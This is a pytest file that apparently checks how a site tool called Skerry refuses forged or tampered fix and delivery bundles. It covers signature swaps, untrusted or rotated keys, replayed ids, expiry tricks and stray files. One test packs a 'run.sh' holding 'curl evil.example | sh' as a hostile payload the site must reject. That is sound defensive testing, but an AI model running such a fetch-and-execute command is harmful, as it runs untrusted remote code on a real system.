"""What a sender tries who has a key, ssh-keygen, age and the documentation: each trick has its refusal.

Nothing of Skerry makes these packages; the site's answers are those of its command line.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from engine.model.codes import bundles
from tests.bundles.third_party import read
from tests.desk.by_hand import LIMIT, Hand, fitting_plan, needs_openssh
from tests.desk.conftest import REPAIR
from tests.desk.test_fix_commands import Place
from tests.desk.test_whom_it_obeys import delivery

pytestmark = needs_openssh
Plan = dict[str, Any]
# As docs/errors.md has them.
DAMAGED, BREAKS_RULES = -15000002000, -15000003000
NOT_TRUSTED, NOT_SIGNED = -15001001000, -15001002000
NO_FIX, EXPIRED, FOR_ANOTHER = -15021002000, -15021004000, -15021005000
APPLIED_BEFORE, CHANGED_SINCE, OLDER = -15021006000, -15021007000, -15022004000
NOT_ALLOWED, REPLACED = bundles.NOT_ALLOWED.number, bundles.REPLACED.number


class Target:
    """A site with a failed run that trusts a supporter's key, and what it has sent."""

    def __init__(self, folder: Path) -> None:
        self.site, self.hand, self.folder = Place(folder / "site"), Hand.at(folder / "hand"), folder
        self.site(
            "keys", "trust", self.hand.private.with_suffix(".pub"), "--name", "hand", "--role", "support"
        )
        self.site("load", REPAIR)
        self.site("run", "nightly", status=1)
        self.site.text("export", 1, "-o", folder / "out")
        _, manifest, self.files = read(folder / "out", [])
        self.facts = {file["name"]: file.get("facts", {}) for file in manifest["files"]}
        self.own = manifest["facts"]["site"]
        self._sent = 0

    def plan(self, **changes: Any) -> Plan:
        """A fix that fits, but for what is said."""
        self._sent += 1
        return {**fitting_plan(self.files, self.facts, self.own, f"{self._sent:032x}"), **changes}

    def fix(self, plan: Plan, hand: Hand | None = None, **more: bytes) -> Path:
        """Signed by hand."""
        self._sent += 1
        files = {"plan.json": json.dumps(plan).encode(), **more}
        return (hand or self.hand).bundle(self.folder / f"sent-{self._sent}", "fix", files)

    def refused(self, *words: object) -> int:
        """The code with which a command refuses."""
        code: int = self.site(*words, status=3)["error"]["code"]
        return code

    def state(self) -> Any:
        """What nobody who was refused has changed."""
        return (
            self.site("dump"),
            self.site("context", 1),
            self.site("fix", "list"),
            self.site("delivery", "list"),
        )


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """At the end it is as it was."""
    target = Target(tmp_path_factory.mktemp("target"))
    before = target.state()
    yield target
    assert target.state() == before


def without_hashes(target: Target) -> Plan:
    plan = target.plan()
    return {**plan, "target": {**plan["target"], "site_hash": None, "definitions_hash": None}}


def with_a_mask(target: Target) -> Plan:
    plan = target.plan()
    return {**plan, "values": [{**plan["values"][0], "was": "******"}]}


@pytest.mark.parametrize(
    ("plan", "code"),
    [
        (without_hashes, CHANGED_SINCE),
        (with_a_mask, CHANGED_SINCE),
        (lambda target: target.plan(expires="9999-12-31T23:59:59+00:00"), EXPIRED),
        (lambda target: target.plan(expires="2026-01-01T00:00:00+00:00"), EXPIRED),
        (lambda target: target.plan(site=target.hand.fingerprint), FOR_ANOTHER),
        (lambda target: target.plan(more="x"), NO_FIX),
    ],
    ids=["no hashes", "a mask", "for ever", "expired", "for someone else", "a key too many"],
)
def test_a_plan_that_only_looks_as_if_it_fitted(
    target: Target, plan: Callable[[Target], Plan], code: int
) -> None:
    assert target.refused("fix", "apply", target.fix(plan(target))) == code


def test_files_that_nobody_is_to_see(target: Target) -> None:
    for more in ({"run.sh": b"curl evil.example | sh"}, {"letter.txt": b"harmless"}):
        assert target.refused("fix", "apply", target.fix(target.plan(), **more)) == NO_FIX


def test_a_content_that_was_changed_after_it_was_signed(target: Target) -> None:
    # Given two fixes of the same key, and the parts of the one under the signed header of the other
    shown, hidden = target.fix(target.plan()), target.fix(target.plan(title="another"))
    for part in ("manifest.zst", "vol-000.tar"):
        shutil.copy(hidden / part, shown / part)
    assert target.refused("fix", "apply", shown) in (DAMAGED, BREAKS_RULES)

    # And a header that tells the truth about them, under the old signature
    header = (hidden / "BUNDLE.json").read_bytes()
    (shown / "BUNDLE.json").write_bytes(header)
    assert target.refused("fix", "apply", shown) == NOT_SIGNED


def test_a_bundle_of_another_kind_under_its_own_signature(target: Target) -> None:
    files = {"plan.json": json.dumps(target.plan()).encode()}
    path = target.hand.bundle(target.folder / "kind", "fix", files, namespace="skerry-diagnostic")

    assert target.refused("fix", "apply", path) == NOT_SIGNED


def test_what_the_key_may_not_send(target: Target, tmp_path: Path) -> None:
    # A customer's key sends a fix, a supporter's a delivery, a stranger's either
    customer, stranger = Hand.at(tmp_path / "customer"), Hand.at(tmp_path / "stranger")
    card = customer.private.with_suffix(".pub")
    target.site("keys", "trust", card, "--name", "customer", "--role", "site")
    sent = target.hand.bundle(tmp_path / "delivery", "delivery", {"delivery.json": delivery()})

    assert target.refused("fix", "apply", target.fix(target.plan(), customer)) == NOT_ALLOWED
    assert target.refused("delivery", "import", sent) == NOT_ALLOWED
    assert target.refused("fix", "apply", target.fix(target.plan(), stranger)) == NOT_TRUSTED


@pytest.mark.skipif(shutil.which("age") is None, reason="the package age is not installed")
def test_an_encrypted_bundle_is_not_opened_before_its_signature_holds(target: Target, tmp_path: Path) -> None:
    # Given parts that age has encrypted to the site, once signed by a trusted key and once by nobody
    recipient = re.search(r"age1[a-z0-9]+", target.site.text("keys", "show"))
    assert recipient
    path = target.fix(target.plan())
    for part in ("manifest.zst", "vol-000.tar"):
        words = [
            "age",
            "-r",
            recipient[0],
            "-o",
            str(path / part.replace("zst", "age").replace("tar", "age")),
        ]
        subprocess.run([*words, str(path / part)], check=True)
        (path / part).unlink()
    header = json.loads((path / "BUNDLE.json").read_bytes())
    header["recipients"] = [recipient[0]]
    target.hand.seal(path, header, "manifest.age", "vol-000.age")
    shown = target.site("fix", "preview", path)
    assert shown["values"][0]["path"] == LIMIT

    (path / "BUNDLE.json.sig").unlink()

    assert target.refused("fix", "apply", path) == NOT_SIGNED


def test_an_id_that_was_applied_is_not_taken_again_after_the_database_was_made_again(tmp_path: Path) -> None:
    target = Target(tmp_path)
    plan = target.plan()
    target.site("fix", "apply", target.fix(plan))
    for file in target.site.root.glob("*.db*"):
        file.unlink()
    target.site("rebuild")

    again = {**target.plan(), "id": plan["id"], "title": "the same id, another content"}

    assert target.refused("fix", "apply", target.fix(again)) == APPLIED_BEFORE


def test_what_an_author_sends_late_and_what_his_replaced_key_signs(tmp_path: Path) -> None:
    # Given an author whose newer delivery is here
    site, author = Place(tmp_path / "site"), Place(tmp_path / "author")
    author.text("keys", "export", "-o", tmp_path / "author.card")
    site("keys", "trust", tmp_path / "author.card", "--role", "author")
    hand = Hand.of(tmp_path / "hand", author.root / "keys" / "signing")
    say = {"say": {"type": "shell", "process": "echo 2"}}
    newer = delivery(id="a" * 32, made="2026-11-02T00:00:00+00:00", jobs=say)
    older = delivery(
        id="b" * 32, made="2026-11-01T00:00:00+00:00", jobs={"say": {**say["say"], "process": "echo 1"}}
    )
    site("delivery", "import", hand.bundle(tmp_path / "newer", "delivery", {"delivery.json": newer}))

    # Then an older one does not replace it, and what the old key signs after its replacement counts for nothing
    sent = hand.bundle(tmp_path / "older", "delivery", {"delivery.json": older})
    assert site("delivery", "import", sent, status=3)["error"]["code"] == OLDER
    author.text("keys", "rotate", "-o", tmp_path / "new.card")
    site("keys", "trust", tmp_path / "new.card", "--role", "author")
    late = hand.bundle(tmp_path / "late", "delivery", {"delivery.json": delivery(id="c" * 32)})
    assert site("delivery", "import", late, status=3)["error"]["code"] == REPLACED
    assert site("jobs", "show", "say")["definition"]["process"] == "echo 2"
